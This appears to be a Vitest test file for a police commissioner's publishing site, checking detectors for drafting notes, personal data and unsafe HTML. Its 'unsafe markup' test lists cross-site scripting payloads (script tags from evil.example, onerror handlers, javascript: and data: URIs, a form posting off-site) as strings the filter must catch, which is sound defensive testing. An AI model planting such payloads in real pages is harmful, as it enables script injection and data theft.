import { describe, expect, it } from 'vitest';
import { findHazards } from '../../src/domain/check/hazards.ts';
import { findUnsafeMarkup } from '../../src/domain/check/markup.ts';
import { collections, type CollectionName } from '../../src/domain/collections.ts';
import { readOffice } from '../../src/domain/office.ts';
import { scaffold } from '../../src/domain/scaffold.ts';
import { NOTTINGHAMSHIRE } from '../helpers/office.ts';

const office = { officeEmails: ['opccn@norfolk.police.uk'], officePhones: ['01953 424455'] };
const rules = (text: string) => findHazards(text, office).map((f) => f.rule);

describe('publishing hazards', () => {
  it('leaves ordinary prose, headings, glossaries and staff names alone', () => {
    for (const text of [
      'Update - we have recruited 87 new PCSOs this year.',
      'ASB: Anti-social behaviour.\nCSP: Community Safety Partnership.',
      'Owner: Phil Gilbert. Due by Christmas.',
      'NB: figures are provisional.',
      'The precept rose to £278.01, an extra £0.29 a week; total funding was £183.1m.',
      'Contact opccn@norfolk.police.uk or call 01953 424455.',
      'Dear Requester,',
      'Members asked questions? The PCC answered.',
    ]) {
      expect(rules(text), text).toEqual([]);
    }
  });

  it('finds each kind of hazard once, at the right place', () => {
    const text = 'Intro.\nJo - can you check this?';
    const [finding] = findHazards(text, office);
    expect(finding).toMatchObject({ rule: 'drafting-note', offset: text.indexOf('Jo') });
    expect(rules('Approved by PCC/CFO (Delete as appropriate)')).toEqual(['template-text']);
    expect(rules('Signed\nMe.\n')).toEqual(['placeholder-signature']);
    expect(rules('Email jo.bloggs@gmail.com or ring 07700 900123')).toEqual(['personal-data', 'personal-data']);
    expect(rules('Dear Mrs Smith, thank you')).toEqual(['personal-data']);
    expect(rules('Completion date xx/xx')).toEqual(['template-text']);
  });
});

describe('unsafe markup', () => {
  it('ignores HTML shown as code, in fenced blocks and inline', () => {
    const body = 'Embed code:\n\n```html\n<p>Our video:</p>\n<iframe src="https://example.org"></iframe>\n<script src="a.js"></script>\n```\n\nUse `<script>` tags with care.';
    expect(findUnsafeMarkup(body)).toEqual([]);
  });

  it('allows the safe subset', () => {
    expect(findUnsafeMarkup('<details><summary>More</summary><p>Text with <abbr title="Police and Crime Commissioner">PCC</abbr>.</p></details>')).toEqual([]);
    expect(findUnsafeMarkup('<a href="https://www.gov.uk/">GOV.UK</a> <img src="/chart.png" alt="Chart">')).toEqual([]);
  });

  it('refuses what runs, hides or leaves the site, whatever the disguise', () => {
    const payloads = [
      '<script>alert(1)</script>',
      '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
      '<img src=x onerror=alert(1)>',
      '<iframe src="https://evil.example"></iframe>',
      '<object data="x.swf"></object>',
      '<embed src="x.swf">',
      '<svg onload=alert(1)>',
      '<a href="javascript:alert(1)">x</a>',
      '<a href="JaVaScRiPt:alert(1)">x</a>',
      '<a href="jav&#x09;ascript:alert(1)">x</a>',
      '<a href=" javascript:alert(1)">x</a>',
      '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
      '<a href="vbscript:msgbox(1)">x</a>',
      '[x](javascript:alert(1))',
      '![x](data:image/svg+xml;base64,PHN2Zz4=)',
      '[x]: javascript:alert(1)',
      '<javascript:alert(1)>',
      '<p style="display:none">hidden</p>',
      '<span style="font-size:0">hidden</span>',
      '<span style="color: #ffffff">hidden</span>',
      '<div style="position:absolute;left:-9999px">hidden</div>',
      '<p onclick="steal()">x</p>',
      '<form action="https://evil.example"><input name=x></form>',
      '<meta http-equiv="refresh" content="0;url=https://evil.example">',
      '<base href="https://evil.example/">',
      '<link rel="stylesheet" href="https://evil.example/x.css">',
      '<style>body{display:none}</style>',
      '<marquee>x</marquee>',
      '<p class="skip-link">x</p>',
      '<!-- note to self: check with legal -->',
      '<math><mtext>x</mtext></math>',
      '<details open ontoggle=alert(1)>',
    ];
    const missed = payloads.filter((payload) => findUnsafeMarkup(payload).length === 0);
    expect(missed).toEqual([]);
    expect(payloads.length).toBeGreaterThanOrEqual(30);
  });
});

describe('publishing hazards that are not hazards', () => {
  it('leaves Roman numerals, place names before a dash, work email on mail. domains and code alone', () => {
    for (const text of ['See Chapter XX of the Act.', 'Norfolk - we are proud of our volunteers.', 'Write to jo@mail.norfolk.gov.uk.']) {
      expect(rules(text), text).toEqual([]);
    }
  });

  it('leaves questions put to the public alone, but not the same words to a colleague mid-sentence', () => {
    expect(rules('Can you check your council tax band? Ask your district council.')).toEqual([]);
    expect(rules('The date is not final, can you confirm it with the panel?')).toEqual(['drafting-note']);
  });
});

describe('guidance left from npm run new', () => {
  it('is caught, so a new entry cannot be published unchanged', () => {
    expect(rules('Write the title here.')).toEqual(['template-text']);
    expect(rules('Write the text of the page here, in Markdown.')).toEqual(['template-text']);
  });

  it('is caught in every field of a new entry of each kind, however the field is labelled', () => {
    const { office } = readOffice(NOTTINGHAMSHIRE);
    const asked = (Object.keys(collections) as CollectionName[]).flatMap((collection) =>
      scaffold(collection, { office: office!, today: '2026-11-23', existing: [] })
        .text.split('\n')
        .filter((line) => !line.startsWith('#') && /\bWrite\b/.test(line))
        .map((line) => `${collection}: ${line}`),
    );
    expect(asked).toEqual(expect.arrayContaining(['decisions: decided: Write what was decided here.', 'services: helps: Write who it helps here.', 'services: howToGetHelp: Write how to get help here.', 'commissioning: asOf: Write when it was published here.', 'gifts: offeredBy: Write who offered it here.']));
    for (const line of asked) expect(rules(line), line).toEqual(['template-text']);
  });
});

describe('notes to editors', () => {
  it('are caught in public text, however they are addressed', () => {
    for (const text of [
      "*Editor's note: the year appears to be a drafting error.*",
      "Editors' note - check the total.",
      'Note to editors: the figure is provisional.',
      "The source documents do not give the post holder's salary.",
      'The source document does not say who signed it.',
      'The source does not say when this response was added to the disclosure log.',
      "The commissioner's response is not in the source documents, so it is shown as not published.",
      'TODO: add the allowances.',
      'Spend was £2.4m [check] in 2019/20.',
    ]) {
      expect(rules(text), text).toEqual(['editor-note']);
    }
  });

  it('leave the same words alone where they are not addressed to editors', () => {
    for (const text of ['The panel protects editorial independence.', 'Mr Todo chaired the meeting.', 'The editors of local newspapers were invited.', 'Please check your council tax band.', 'The main source of funding is the police grant.']) {
      expect(rules(text), text).toEqual([]);
    }
  });
});
